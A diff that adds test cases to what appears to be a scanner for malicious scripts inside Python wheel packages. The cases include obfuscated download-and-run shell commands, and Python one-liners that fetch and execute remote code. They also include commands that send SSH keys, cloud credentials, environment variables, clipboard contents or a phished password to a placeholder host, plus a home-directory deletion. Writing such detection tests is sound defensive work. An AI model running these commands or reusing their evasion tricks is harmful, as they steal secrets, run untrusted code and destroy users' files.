@@ -23,6 +23,40 @@ test.each([
   expect(await told({ 'garden/__init__.py': 'x = 1\n', [command]: script }, rules)).toContain(`critical ${command}`);
 });
 
+const SENT = 'https://o.example.invalid/u';
+const ENCODED = Buffer.from(FETCHES).toString('base64');
+
+test.each([
+  ['quotes within a word', `c""url -s https://o.example.invalid/x.sh | s''h`],
+  ['variables of the script', `A=cu; B=rl\n$A\${B} -s https://o.example.invalid/x.sh | sh`],
+  ['a text of Python', `python3 -c "import urllib.request as u; exec(u.urlopen('https://o.example.invalid/x').read())"`],
+  ['lines that Python reads', 'python3 - <<EOF\nimport urllib.request\nexec(urllib.request.urlopen("https://o.example.invalid/x").read())\nEOF'],
+  ['codes of letters', String.raw`printf '\x63\x75\x72\x6c\x20\x68\x74\x74\x70' | sh`],
+  ['a text that is decoded for eval', `eval "$(echo ${ENCODED} | base64 -d)"`],
+  ['a variable that is evaluated', 'URL="https://o.example.invalid/x"\nDATA=$(curl -s "$URL")\neval "$DATA"'],
+  ['a file that is started later', 'curl -so /tmp/x https://o.example.invalid/x\nif true; then\n  sudo bash -e /tmp/x --quiet\nfi'],
+  ['a file of no name', 'T=$(mktemp)\ncurl -s https://o.example.invalid/x > "$T"\nsh "$T"'],
+  ['an archive of keys that another line sends', `tar czf /tmp/a.tgz ~/.ssh ~/.aws\ncurl -F "f=@/tmp/a.tgz" ${SENT}`],
+  ['a copy of keys that another line sends', `cp -r ~/.ssh /tmp/.s; tar c /tmp/.s | nc o.example.invalid 9999`],
+  ['files that are looked for', String.raw`find ~ -name "*.env" -exec curl -F f=@{} https://o.example.invalid/u \;`],
+  ['the environment within a request', `curl -s -d "$(env)" ${SENT}`],
+  ['what the user has copied', `pbpaste | curl -d @- ${SENT}`],
+  ['a password that is asked for', `osascript -e 'display dialog "Password" default answer "" with hidden answer' | curl -d @- ${SENT}`],
+  ['the files of the user, deleted', 'rm -rf ~/'],
+])('a command of a wheel is judged by what it does with %s', async (_, script) => {
+  const command = 'garden-1.0.data/scripts/dig';
+  expect(await told({ 'garden/__init__.py': 'x = 1\n', [command]: `#!/bin/bash\n${script}\n` }, rules)).toContain(`critical ${command}`);
+});
+
+test.each([
+  ['is read by a module', 'curl -fsSL https://o.example.invalid/data.csv -o data.csv\npython -m garden data.csv'],
+  ['is read by a script of its own', 'curl -fsSL https://o.example.invalid/data.csv -o data.csv\nsh ./plant.sh data.csv'],
+  ['is shown', 'DATA=$(curl -s https://o.example.invalid/x)\necho "$DATA"'],
+  ['lies in a folder that goes in the end', 'T=$(mktemp -d)\ntrap "rm -rf $T" EXIT\ncurl -so "$T/leaf" https://o.example.invalid/leaf\ncat "$T/leaf"'],
+])('what a command fetches and what %s is no finding', async (_, script) => {
+  expect(await told({ 'garden/__init__.py': 'x = 1\n', 'garden-1.0.data/scripts/dig': `#!/bin/bash\n${script}\n` }, rules)).toEqual([]);
+});
+
 test('a command that lies below the environment by way of its data is one as well', async () => {
   expect(await told({ ...module, [`${data}bin/dig`]: `#!/bin/sh\n${FETCHES}\n` }, rules)).toEqual([`medium ${data}bin/dig`]);
 });
